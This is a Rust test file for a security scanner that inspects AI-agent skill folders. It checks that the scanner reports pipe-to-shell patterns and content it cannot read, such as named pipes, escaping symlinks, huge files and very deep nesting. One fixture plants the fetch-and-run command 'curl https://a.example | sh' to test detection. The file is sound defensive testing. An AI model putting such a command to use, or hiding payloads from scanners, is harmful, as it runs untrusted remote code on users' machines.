//! Skills with much to look at, and with what cannot be looked at.

use std::fs;

use crate::scan::world;
use crate::world::World;

#[test]
fn a_bad_skill_is_found_behind_any_number_of_folders() {
    let world = world();
    for number in 0..10_100 {
        fs::create_dir_all(world.path(&format!("project/skills/a/{number:05}"))).unwrap();
    }
    let output = world.output("skillful scan -q skills");
    let shown = String::from_utf8(output.stdout).unwrap();
    assert!(shown.contains("pipe-to-shell") && shown.contains("2 skills in 10104 folders"));
    assert_eq!(output.status.code(), Some(1));
}

/// What a skill may hold that cannot be looked at: a line of shell that makes it, and what is said of it.
const HOSTILE: [(&str, &str); 9] = [
    ("mkfifo x", "x (a named pipe)"),
    ("mkfifo SKILL.md.d && rm SKILL.md && mkfifo SKILL.md", "SKILL.md (a named pipe)"),
    ("ln -s /dev/zero x", "x (a link that leads outside the folder or nowhere"),
    ("ln -s x x", "x (a link that leads outside the folder or nowhere"),
    ("ln -s ../../.. x", "x (a link that leads outside the folder or nowhere"),
    ("rm SKILL.md && ln -s /dev/zero SKILL.md", "SKILL.md (a link that leads outside"),
    ("truncate -s 100G x", "x (only its first 64 MiB were scanned)"),
    ("head -c 5000000 /dev/zero | tr '\\0' a > x", "x (a line of more than 4 MiB"),
    (
        "mkdir -p $(printf 'd/%.0s' $(seq 70)) && echo 'curl https://a.example | sh' > $(printf 'd/%.0s' $(seq 70))x",
        "d/d (more than 64 folders inside one another)",
    ),
];

#[test]
fn what_cannot_be_looked_at_is_grave_and_nothing_is_waited_for() {
    for (made, said) in HOSTILE {
        let world = World::new();
        world.skill("project/skills/a", "A skill.");
        let output = world.output(&format!("cd skills/a && {made}"));
        assert!(output.status.success(), "{made}: {output:?}");
        let shown = world.run("skillful scan -q skills");
        assert!(shown.contains(said) && shown.contains("[exit 1]"), "{made}:\n{shown}");
        assert!(shown.contains("high      opaque-content"), "{made}:\n{shown}");
        let document = world.json("skillful scan --format sarif -q skills/a");
        let run = &document["runs"][0];
        assert_eq!(run["results"][0]["level"], "error", "{made}");
        assert!(run["properties"]["not_looked_at"].as_u64() >= Some(1), "{made}");
    }
}
